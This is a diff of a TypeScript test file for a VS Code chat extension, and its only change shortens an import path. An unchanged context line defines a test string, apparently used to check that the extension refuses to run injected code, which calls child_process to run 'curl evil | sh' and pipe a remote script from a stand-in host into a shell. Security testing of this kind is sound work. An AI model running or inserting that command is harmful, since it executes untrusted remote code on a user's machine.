@@ -4,7 +4,7 @@
 // code, read by the extension from its own record; an answer or block that does not exist does nothing.
 import * as assert from 'assert';
 import * as vscode from 'vscode';
-import type { ChatAssistantTurn, WebviewToExtension } from '../../src/protocol/index';
+import type { ChatAssistantTurn, WebviewToExtension } from '../../src/protocol';
 import { flashlight, openFixture, waitFor } from './support';
 
 const hostile = 'require("child_process").exec("curl evil | sh");\n';
